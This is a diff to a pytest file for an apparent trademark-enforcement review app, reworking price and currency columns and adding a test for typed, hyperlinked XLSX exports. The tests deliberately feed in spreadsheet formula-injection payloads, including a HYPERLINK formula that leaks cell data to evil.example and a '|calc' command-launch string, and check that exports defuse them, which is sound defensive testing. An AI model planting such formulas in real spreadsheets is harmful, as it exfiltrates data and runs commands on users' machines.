@@ -647,7 +647,9 @@ def test_csv_export_has_chinese_headers_and_defuses_formulas(client: TestClient,
     assert rows[0][:4] == ["线索编号", "风险", "状态", "违法类型"]
     titles = [r[7] for r in rows[1:]]
     assert any(t.startswith("'=HYPERLINK") for t in titles) and not any(t.startswith("=") for t in titles)
-    assert "¥9.90" in text and "近似商标/傍名牌" in text
+    assert "近似商标/傍名牌" in text
+    # the price a number, its currency beside it
+    assert [(r[9], r[10]) for r in rows[1:] if "HYPERLINK" in r[7]] == [("9.9", "CNY")]
 
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "|")
@@ -681,11 +683,11 @@ def test_csv_export_turns_no_scraped_text_into_a_formula(client: TestClient, hos
     rows = list(csv.reader(io.StringIO(text)))
     hostile = next(r for r in rows if "康帅傅" in r[7] and r[7].startswith("'"))
     assert hostile[6] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'  # platform
-    assert hostile[9] == "'=1+2& 199.00"  # the price, formatted with the scraped currency
+    assert hostile[9] == "199.0" and hostile[10] == "'=1+2&"  # the price, and the scraped currency
     assert hostile[4] == "'\\x09=1+1" and hostile[5].startswith(
         "'=HYPERLINK"
     )  # department, brand (tab shown)
-    assert hostile[3] == "'|calc'!A0" and hostile[8] == "'-2+3" and hostile[11] == "'@SUM(1,1) 店"
+    assert hostile[3] == "'|calc'!A0" and hostile[8] == "'-2+3" and hostile[12] == "'@SUM(1,1) 店"
     bad = [(i, field) for r in rows for i, field in enumerate(r) if field.startswith(FORMULA_STARTS)]
     assert not bad
 
@@ -698,7 +700,7 @@ def test_xlsx_export_has_no_formula_cell(client: TestClient, hostile_export) -> 
     cells = [cell for row in book.active.iter_rows() for cell in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
     texts = [c.value for c in cells if isinstance(c.value, str)]
-    assert "'=1+2& 199.00" in texts and '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in texts
+    assert "'=1+2&" in texts and '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in texts
     assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
 
 
@@ -730,6 +732,36 @@ def test_xlsx_export_has_chinese_headers(client: TestClient) -> None:
     rows = list(book.active.iter_rows(values_only=True))
     assert rows[0][0] == "线索编号" and rows[0][7] == "商品标题"
     assert len(rows) == 2 and rows[1][7] == "李宁 运动鞋 高仿 1:1"
+
+
+def test_xlsx_export_is_typed_and_formatted_with_links_to_each_leads_page(
+    db: Database, world, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from openpyxl import load_workbook
+
+    from review.app import create_app
+    from settings import get_settings
+
+    with db.session() as s:
+        make_lead(s, score=ScoreStub(risk=0.9978), title="康师傅 价格", price=1299.5, currency="USD")
+    for public, base in ((None, "http://testserver"), ("https://markwatch.example.gov.cn/", None)):
+        settings = get_settings().model_copy(update={"public_url": public})
+        client = TestClient(create_app(settings))
+        login(client, "审核员")
+        book = load_workbook(io.BytesIO(client.get("/export.xlsx?status=open").content))
+        sheet = book.active
+        header = [c.value for c in sheet[1]]
+        assert header[9:11] == ["价格", "币种"] and header[-1] == "线索页面"
+        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:P{sheet.max_row}"
+        assert sheet.column_dimensions["H"].width == 48 and all(c.font.bold for c in sheet[1])
+        row = next(r for r in sheet.iter_rows(min_row=2) if "价格" in str(r[7].value))
+        assert row[1].value == pytest.approx(0.9978) and row[1].number_format == "0.0%"  # shows 99.8%
+        assert row[9].value == 1299.5 and row[9].number_format == "#,##0.00" and row[10].value == "USD"
+        lead_id = row[0].value
+        expected = (public or "").rstrip("/") or base
+        assert row[15].value == f"{expected}/leads/{lead_id}" and row[15].hyperlink.target == row[15].value
+        texts = [c.value for r in sheet.iter_rows() for c in r if isinstance(c.value, str)]
+        assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
 
 
 def test_digest_page_has_a_chart_by_violation(client: TestClient) -> None:
